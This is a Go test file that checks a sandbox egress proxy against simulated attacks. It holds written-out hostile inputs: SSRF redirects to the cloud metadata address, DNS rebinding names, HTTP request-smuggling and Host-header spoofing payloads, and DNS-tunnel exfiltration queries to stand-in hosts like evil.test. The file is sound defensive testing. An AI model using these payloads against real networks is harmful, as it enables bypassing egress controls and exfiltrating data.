package proxy_test

import (
	"crypto/tls"
	"slices"
	"strings"
	"testing"

	"github.com/miekg/dns"
	"go.uber.org/goleak"

	"github.com/cove-sandbox/cove/egress/egresstest"
	"github.com/cove-sandbox/cove/egress/policy"
	"github.com/cove-sandbox/cove/sandbox"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

func network(t testing.TB, mode sandbox.NetworkMode, rules ...string) sandbox.Network {
	t.Helper()
	n := sandbox.Network{Mode: mode}
	for _, l := range rules {
		r, err := policy.ParseRule(l)
		if err != nil {
			t.Fatal(err)
		}
		n.Rules = append(n.Rules, r)
	}
	return n
}

// Everything an attacker with root and raw sockets tries, and what becomes of
// it. reached is what of the world saw anything at all of it; asked are the
// names that left as questions.
func TestWorld(t *testing.T) {
	w := egresstest.NewWorld(t)
	const (
		good, good6   = egresstest.Good, "[" + egresstest.Good6 + "]"
		evil, evil6   = egresstest.Evil, "[" + egresstest.Evil6 + "]"
		other, other6 = egresstest.Other, "[" + egresstest.Other6 + "]"
		gateway       = "10.200.0.1"
	)
	type a = *egresstest.Attacker
	get := func(path string) string { return "GET " + path + " HTTP/1.1\r\nHost: good.test\r\n\r\n" }
	groups := []struct {
		network sandbox.Network
		cases   []struct {
			name    string
			try     func(a) string
			want    string // its beginning
			reached string // space-separated
			asked   string
		}
	}{}
	type try = struct {
		name    string
		try     func(a) string
		want    string
		reached string
		asked   string
	}
	add := func(n sandbox.Network, cases ...try) {
		groups = append(groups, struct {
			network sandbox.Network
			cases   []struct {
				name    string
				try     func(a) string
				want    string
				reached string
				asked   string
			}
		}{n, cases})
	}

	add(network(t, "public"),
		try{"public: HTTP", func(x a) string { return x.HTTP(good+":80", "good.test") }, "good.test at " + good, good + " http", ""},
		try{"public: HTTP over IPv6", func(x a) string { return x.HTTP(good6+":80", "good.test") }, "good.test at 2001:db8::10", "2001:db8::10 http", ""},
		try{"public: HTTPS", func(x a) string { return x.HTTPS(good+":443", "good.test", "good.test") }, "good.test at " + good, good + " https", ""},
		try{"public: an address", func(x a) string { return x.HTTP(evil+":80", "") }, evil, evil + " http", ""},
		try{"public: UDP", func(x a) string { return x.UDP(good+":9999", "x") }, good + " x", good + " udp", ""},
		try{"public: UDP over IPv6", func(x a) string { return x.UDP(good6+":9999", "x") }, "2001:db8::10 x", "2001:db8::10 udp", ""},
		try{"public: a server that speaks first", func(x a) string { return x.Line(good + ":22") }, "hello from " + good, good + " banner", ""},
		try{"public: a name", func(x a) string { return x.Ask("udp", gateway, "good.test", dns.TypeA) }, "NOERROR " + good, "", "good.test"},
		try{"public: a name over TCP", func(x a) string { return x.Ask("tcp", gateway, "other.test", dns.TypeAAAA) }, "NOERROR 2001:db8::20", "", "other.test"},
		try{"public: a long answer over TCP", func(x a) string { return x.Ask("tcp", gateway, "good.test", dns.TypeTXT) }, "NOERROR 40 records", "", "good.test good.test"},
		try{"public: no such name", func(x a) string { return x.Ask("udp", gateway, "nowhere.test", dns.TypeA) }, "NXDOMAIN", "", "nowhere.test"},
		try{"public: another resolver is ours", func(x a) string { return x.Ask("udp", egresstest.PublicDNS, "evil.test", dns.TypeA) }, "NOERROR " + evil, "", "evil.test"},
		try{"public: private", func(x a) string { return x.HTTP(egresstest.Private+":80", "") }, "refused", "", ""},
		try{"public: private IPv6", func(x a) string { return x.HTTP("["+egresstest.Private6+"]:80", "") }, "refused", "", ""},
		try{"public: metadata", func(x a) string { return x.HTTP(egresstest.Metadata+":80", "") }, "refused", "", ""},
		try{"public: metadata IPv6", func(x a) string { return x.HTTP("["+egresstest.Metadata6+"]:80", "") }, "refused", "", ""},
		try{"public: the host", func(x a) string { return x.HTTP(egresstest.Host+":80", "") }, "refused", "", ""},
		try{"public: the host's loopback by its gateway", func(x a) string { return x.HTTP(gateway+":80", "") }, "refused", "", ""},
		try{"public: another sandbox", func(x a) string { return x.HTTP("10.200.0.3:80", "") }, "", "", ""},
		try{"public: private over UDP", func(x a) string { return x.UDP(egresstest.Private+":9999", "x") }, "timeout", "", ""},
		try{"public: a private resolver is ours", func(x a) string { return x.Ask("udp", egresstest.Private, "x.evil.test", dns.TypeA) }, "NXDOMAIN", "", "x.evil.test"},
		try{"public: IPv4 in IPv6", func(x a) string { return x.HTTP("[64:ff9b::10.9.9.9]:80", "") }, "refused", "", ""},
		try{"public: 6to4", func(x a) string { return x.HTTP("[2002:a09:909::1]:80", "") }, "refused", "", ""},
		try{"public: multicast", func(x a) string { return x.UDP("224.0.0.251:5353", "x") }, "", "", ""},
		try{"public: a name that is private (rebinding)", func(x a) string { return x.Ask("udp", gateway, "rebind.good.test", dns.TypeA) }, "NOERROR", "", "rebind.good.test"},
		try{"public: a name that is half private", func(x a) string { return x.Ask("udp", gateway, "mixed.good.test", dns.TypeA) }, "NOERROR " + good, "", "mixed.good.test"},
		try{"public: a name that is the metadata service", func(x a) string { return x.Ask("udp", gateway, "meta.good.test", dns.TypeAAAA) }, "NOERROR", "", "meta.good.test"},
		try{"public: keys for encrypted names are not handed out", func(x a) string { return x.Ask("udp", gateway, "good.test", dns.TypeHTTPS) }, "NOERROR", "", ""},
		try{"public: where a request leads to, it may not", func(x a) string {
			to := x.Get(good+":80", "http://good.test/redirect?to=http://"+egresstest.Metadata+"/", "good.test")
			return to + " " + x.HTTP(egresstest.Metadata+":80", "")
		}, "redirect http://169.254.169.254/ refused", good + " http", ""},
	)
	add(network(t, "rules", "allow good.test", "allow *.good.test tcp 443", "allow good.test tcp 22", "deny evil.test"),
		try{"domain: HTTP", func(x a) string { return x.HTTP(good+":80", "good.test") }, "good.test at " + good, good + " http", "good.test good.test"},
		try{"domain: HTTPS", func(x a) string { return x.HTTPS(good+":443", "good.test", "good.test") }, "good.test at " + good, good + " https", ""},
		try{"domain: HTTPS over IPv6", func(x a) string { return x.HTTPS(good6+":443", "good.test", "good.test") }, "good.test at 2001:db8::10", "2001:db8::10 https", ""},
		try{"domain: a name below", func(x a) string { return x.HTTPS(good+":443", "www.good.test", "www.good.test") }, "www.good.test at " + good, good + " https", "www.good.test www.good.test"},
		try{"domain: a name below, another port", func(x a) string { return x.HTTP(good+":80", "www.good.test") }, "denied", "", ""},
		try{"domain: its name at another's address leads to its own", func(x a) string { return x.HTTPS(evil+":443", "good.test", "good.test") }, "good.test at " + good, good + " https", ""},
		try{"domain: the same over IPv6", func(x a) string { return x.HTTPS(evil6+":443", "good.test", "good.test") }, "good.test at 2001:db8::10", "2001:db8::10 https", ""},
		try{"domain: the same over HTTP", func(x a) string { return x.HTTP(evil+":80", "good.test") }, "good.test at " + good, good + " http", ""},
		try{"domain: its name in capitals with a dot", func(x a) string { return x.HTTP(good+":80", "GOOD.test.") }, "GOOD.test. at " + good, good + " http", ""},
		try{"domain: another name at its address", func(x a) string { return x.HTTPS(good+":443", "other.test", "other.test") }, "reset", "", ""},
		try{"domain: another host at its address", func(x a) string { return x.HTTP(good+":80", "other.test") }, "denied", "", ""},
		try{"domain: an unlisted host (DNS over HTTPS)", func(x a) string { return x.HTTPS(other+":443", "other.test", "other.test") }, "reset", "", ""},
		try{"domain: an unlisted host over IPv6", func(x a) string { return x.HTTPS(other6+":443", "other.test", "other.test") }, "reset", "", ""},
		try{"domain: a denied name", func(x a) string { return x.HTTPS(evil+":443", "evil.test", "evil.test") }, "reset", "", ""},
		try{"domain: no name", func(x a) string { return x.HTTPS(good+":443", "", "good.test") }, "reset", "", ""},
		try{"domain: an address for a name", func(x a) string { return x.HTTP(good+":80", good) }, "denied", "", ""},
		try{"domain: no host", func(x a) string { return x.Raw(evil+":80", "GET / HTTP/1.0\r\n\r\n") }, "HTTP/1.0 403", "", ""},
		try{"domain: an encrypted name", func(x a) string {
			return x.HTTPS(evil+":443", "evil.test", "evil.test", func(c *tls.Config) { c.EncryptedClientHelloConfigList = echConfig(t, "good.test") })
		}, "", "", ""},
		try{"domain: a second host on one connection", func(x a) string {
			return x.Raw(good+":80", get("/1")+"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n")
		}, "HTTP/1.1 200", good + " http", ""},
		try{"domain: two hosts in one request", func(x a) string {
			return x.Raw(good+":80", "GET / HTTP/1.1\r\nHost: good.test\r\nHost: evil.test\r\n\r\n")
		}, "HTTP/1.1 400", "", ""},
		try{"domain: a request in a body that is none", func(x a) string {
			return x.Raw(good+":80", "POST / HTTP/1.1\r\nHost: good.test\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\n\r\n")
		}, "HTTP/1.1", "*", ""},
		try{"domain: a whole URL", func(x a) string {
			return x.Raw(good+":80", "GET http://evil.test/ HTTP/1.1\r\nHost: good.test\r\n\r\n")
		}, "HTTP/1.1 403", "", ""},
		try{"domain: a tunnel", func(x a) string {
			return x.Raw(good+":80", "CONNECT evil.test:443 HTTP/1.1\r\nHost: good.test\r\n\r\n")
		}, "HTTP/1.1 403", "", ""},
		try{"domain: HTTP/2 without TLS", func(x a) string { return x.Raw(good+":80", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n") }, "HTTP/", "", ""},
		try{"domain: a method nobody knows", func(x a) string { return x.Raw(good+":80", "FETCH / HTTP/1.1\r\nHost: evil.test\r\n\r\n") }, "HTTP/1.1 403", "", ""},
		try{"domain: a denial in words", func(x a) string {
			_, body, _ := strings.Cut(x.Raw(good+":80", "GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"), "\r\n\r\n")
			return body
		}, "cove: the network policy of this sandbox does not allow evil.test port 80\n", "", ""},
		try{"domain: a host with a path", func(x a) string { return x.Raw(good+":80", "GET / HTTP/1.1\r\nHost: evil.test/good.test\r\n\r\n") }, "HTTP/1.1 40", "", ""},
		try{"domain: something else", func(x a) string { return x.Raw(evil+":8080", "\x00\x01\x02\x03") }, "reset", "", ""},
		try{"domain: silence to a stranger", func(x a) string { return x.Line(evil + ":22") }, "reset", "", ""},
		try{"domain: a server that speaks first, by the name asked for", func(x a) string {
			return x.Ask("udp", gateway, "good.test", dns.TypeA) + " " + x.Line(good+":22")
		}, "NOERROR " + good + " hello from " + good, good + " banner", ""},
		try{"domain: UDP", func(x a) string { return x.UDP(good+":9999", "x") }, "timeout", "", ""},
		try{"domain: QUIC", func(x a) string { return x.UDP(good+":443", "\xc0\x00\x00\x00\x01") }, "timeout", "", ""},
		try{"domain: QUIC over IPv6", func(x a) string { return x.UDP(good6+":443", "\xc0\x00\x00\x00\x01") }, "timeout", "", ""},
		try{"domain: a name outside the policy does not leave", func(x a) string { return x.Ask("udp", gateway, "c2VjcmV0.evil.test", dns.TypeTXT) }, "NXDOMAIN", "", ""},
		try{"domain: nor by another resolver", func(x a) string { return x.Ask("udp", egresstest.PublicDNS, "c2VjcmV0.tunnel.test", dns.TypeA) }, "NXDOMAIN", "", ""},
		try{"domain: nor over TCP", func(x a) string { return x.Ask("tcp", egresstest.PublicDNS, "c2VjcmV0.tunnel.test", dns.TypeA) }, "NXDOMAIN", "", ""},
		try{"domain: nor one that ends like an allowed one", func(x a) string { return x.Ask("udp", gateway, "notgood.test", dns.TypeA) }, "NXDOMAIN", "", ""},
		try{"domain: an allowed name that became private", func(x a) string { return x.HTTPS(good+":443", "rebind.good.test", "rebind.good.test") }, "reset", "", "rebind.good.test rebind.good.test"},
		try{"domain: an allowed name that became the metadata service", func(x a) string { return x.HTTPS(good+":443", "meta.good.test", "x") }, "reset", "", "meta.good.test meta.good.test"},
		try{"domain: an allowed name that became the host", func(x a) string { return x.HTTPS(good+":443", "host.good.test", "x") }, "reset", "", "host.good.test host.good.test"},
		try{"domain: an allowed name that is half private", func(x a) string { return x.HTTPS(good+":443", "mixed.good.test", "mixed.good.test") }, "mixed.good.test at " + good, good + " https", "mixed.good.test mixed.good.test"},
	)
	// What no name could open is refused before anything is said.
	add(network(t, "rules", "allow good.test tcp 443"),
		try{"refused: a port that no rule allows", func(x a) string { return x.Line(good + ":22") }, "refused", "", ""},
		try{"refused: the same over IPv6", func(x a) string { return x.Line(good6 + ":22") }, "refused", "", ""},
		try{"refused: a private address", func(x a) string { return x.HTTPS(egresstest.Private+":443", "good.test", "good.test") }, "refused", "", ""},
		try{"refused: the metadata service", func(x a) string { return x.HTTPS(egresstest.Metadata+":443", "good.test", "good.test") }, "refused", "", ""},
	)
	add(network(t, "rules", "allow 203.0.113.0/26", "deny 203.0.113.20 tcp 80", "allow 2001:db8::10 tcp 443", "allow 203.0.113.66 udp 9999", "allow 10.9.9.9 tcp 80"),
		try{"cidr: inside", func(x a) string { return x.HTTP(good+":80", "whatever") }, "whatever at " + good, good + " http", ""},
		try{"cidr: a denied port of an address inside", func(x a) string { return x.HTTP(other+":80", "") }, "refused", "", ""},
		try{"cidr: another port of it", func(x a) string { return x.HTTP(other+":8080", "x") }, "x at " + other, other + " http-8080", ""},
		try{"cidr: outside", func(x a) string { return x.HTTP(evil+":80", "") }, "refused", "", ""},
		try{"cidr: UDP to a port that is allowed", func(x a) string { return x.UDP(evil+":9999", "x") }, evil + " x", evil + " udp", ""},
		try{"cidr: UDP over IPv6 that is not", func(x a) string { return x.UDP(good6+":9999", "x") }, "timeout", "", ""},
		try{"cidr: IPv6 to a port that is allowed", func(x a) string { return x.HTTPS(good6+":443", "", "x") }, "x at 2001:db8::10", "2001:db8::10 https", ""},
		try{"cidr: IPv6 to another", func(x a) string { return x.HTTP(good6+":80", "") }, "refused", "", ""},
		try{"cidr: a private address that is opened", func(x a) string { return x.HTTP(egresstest.Private+":80", "x") }, "x at 10.9.9.9", "10.9.9.9 http", ""},
		try{"cidr: another port of it, private", func(x a) string { return x.HTTP(egresstest.Private+":8080", "x") }, "refused", "", ""},
		try{"cidr: names are not looked up", func(x a) string { return x.Ask("udp", gateway, "good.test", dns.TypeA) }, "NXDOMAIN", "", ""},
	)
	add(network(t, "public", "deny evil.test", "deny 203.0.113.20", "deny * tcp 22"),
		try{"denied domain: its name", func(x a) string { return x.HTTPS(evil+":443", "evil.test", "evil.test") }, "reset", "", ""},
		try{"denied domain: looked up", func(x a) string { return x.Ask("udp", gateway, "evil.test", dns.TypeA) }, "NXDOMAIN", "", ""},
		try{"denied domain: another name at its address leads elsewhere", func(x a) string { return x.HTTPS(evil+":443", "good.test", "good.test") }, "good.test at " + good, good + " https", "good.test good.test"},
		try{"denied domain: its address", func(x a) string { return x.HTTP(evil+":80", "") }, "denied", "", ""},
		try{"denied domain: its address without a name", func(x a) string { return x.HTTPS(evil+":443", "", "evil.test") }, "reset", "", ""},
		try{"denied domain: UDP to its address", func(x a) string { return x.UDP(evil+":9999", "x") }, "timeout", "", ""},
		try{"denied address: by a name", func(x a) string { return x.HTTPS(other+":443", "other.test", "other.test") }, "refused", "", ""},
		try{"denied port", func(x a) string { return x.Ask("udp", gateway, "good.test", dns.TypeA) + x.Line(good+":22") }, "NOERROR " + good + "refused", "", ""},
	)
	add(network(t, "none"),
		try{"none: an address", func(x a) string { return x.HTTP(good+":80", "") }, "refused", "", ""},
		try{"none: a name", func(x a) string { return x.Ask("udp", gateway, "good.test", dns.TypeA) }, "NXDOMAIN", "", ""},
		try{"none: UDP", func(x a) string { return x.UDP(good+":9999", "x") }, "timeout", "", ""},
	)
	// co.test is at the address of good.test, as the sites of a host or a CDN are.
	// Each asks for it in a way that some server understands.
	w.Name("co.test", good)
	lookUp := try{"shared address: looked up", func(x a) string { return x.Ask("tcp", gateway, "good.test", dns.TypeA) }, "NOERROR " + good, "", "good.test"}
	shared := func(policy, want string) (cases []try) {
		for _, c := range []struct{ name, port, text string }{
			{"a blank line first", ":80", "\r\nGET / HTTP/1.1\r\nHost: co.test\r\n\r\n"},
			{"a blank line first, another port", ":8080", "\r\nGET / HTTP/1.1\r\nHost: co.test\r\n\r\n"},
			{"a space at the end", ":8080", "GET / HTTP/1.1 \r\nHost: co.test\r\n\r\n"},
			{"tabs", ":8080", "GET\t/\tHTTP/1.1\r\nHost: co.test\r\n\r\n"},
			{"small letters", ":8080", "GET / http/1.1\r\nHost: co.test\r\n\r\n"},
			{"other blanks", ":8080", "GET\v/\fHTTP/1.1\x1c\r\nHost: co.test\r\n\r\n"},
			{"a control character", ":8080", "GET /\x01 http/1.1\r\nHost: co.test\r\n\r\n"},
			{"a line beyond what is looked at", ":8080", "GET /" + strings.Repeat("x", 40<<10) + " HTTP/1.1\r\nHost: co.test\r\n\r\n"},
			{"no version", ":8080", "GET http://co.test/\r\n\r\n"},
			{"no version, headers", ":8080", "GET x\r\nHost: co.test\r\n\r\n"},
			{"behind a PROXY line", ":8080", "PROXY TCP4 192.0.2.1 192.0.2.2 1 2\r\nGET / HTTP/1.1\r\nHost: co.test\r\n\r\n"},
			{"no request on port 80", ":80", "EHLO co.test\r\n"},
			{"no ClientHello on port 443", ":443", "\x00\x01\x02\x03"},
		} {
			cases = append(cases, try{"shared address, " + policy + ": " + c.name, func(x a) string { return x.Raw(good+c.port, c.text) }, want, "", ""})
		}
		return append(cases, try{"shared address, " + policy + ": a line longer than most", func(x a) string {
			return x.Raw(good+":80", "GET /"+strings.Repeat("x", 10<<10)+" HTTP/1.1\r\nHost: co.test\r\n\r\n")
		}, "HTTP/1.1 403", "", ""})
	}
	add(network(t, "rules", "allow good.test"), append([]try{lookUp}, shared("allowed by name", "reset")...)...)
	add(network(t, "public", "deny co.test"), append([]try{lookUp}, shared("denied by name", "reset")...)...)
	// What no server takes for HTTP is still known by the name that was looked up.
	others := []try{lookUp}
	for _, c := range []struct{ name, text string }{
		{"SSH", "SSH-2.0-OpenSSH_9.6p1 Debian-3\r\n"},
		{"SMTP", "EHLO good.test\r\n"},
		{"IRC", "NICK x\r\nUSER x 0 * :x\r\n"},
		{"redis", "*1\r\n$4\r\nPING\r\n"},
		{"memcached", "get x\r\n"},
		{"postgres", "\x00\x00\x00\x08\x04\xd2\x16\x2f"},
		{"git", "0032git-upload-pack /project.git\x00host=good.test\x00"},
		{"svn", "( 2 ( edit-pipeline ) 15:svn://good.test/ ) "},
		{"LDAP", "\x30\x0c\x02\x01\x01\x60\x07\x02\x01\x03\x04\x00\x80\x00"},
	} {
		others = append(others, try{"not HTTP: " + c.name, func(x a) string { return x.Raw(good+":22", c.text) }, "hello from " + good + "\n" + c.text, good + " banner", ""})
	}
	others[1].asked = "good.test" // IPv6 too
	add(network(t, "rules", "allow good.test"), others...)

	n := 0
	for _, g := range groups {
		x := egresstest.NewAttacker(t, w, g.network)
		for _, c := range g.cases {
			n++
			t.Run(c.name, func(t *testing.T) {
				w.Hits()
				got := c.try(x)
				reached, asked := w.Hits()
				if !strings.HasPrefix(got, c.want) {
					t.Errorf("got %q, want %q", got, c.want)
				}
				slices.Sort(asked)
				if c.reached != "*" && strings.Join(reached, " ") != c.reached {
					t.Errorf("reached %q, want %q", reached, c.reached)
				}
				for _, r := range reached {
					if strings.HasPrefix(r, evil) && !strings.Contains(c.reached, evil) || strings.HasPrefix(r, "169.") || strings.HasPrefix(r, "198.") {
						t.Errorf("reached %q", r)
					}
				}
				if strings.Join(asked, " ") != c.asked {
					t.Errorf("asked for %q, want %q", asked, c.asked)
				}
			})
		}
	}
	t.Logf("%d cases", n)
}
